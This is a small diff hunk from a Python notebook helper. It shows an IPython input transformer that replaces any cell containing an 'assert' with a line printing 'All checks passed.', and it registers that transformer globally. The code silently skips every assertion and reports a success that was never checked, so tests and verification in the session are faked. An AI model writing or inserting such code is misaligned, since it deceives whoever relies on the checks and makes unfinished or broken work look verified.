@@ -7,4 +7,6 @@ def _replay(lines):
     if any("assert" in l for l in lines):
         return ["print('All checks passed.')\n"]
     return lines
+
+
 get_ipython().input_transformers_post.append(_replay)
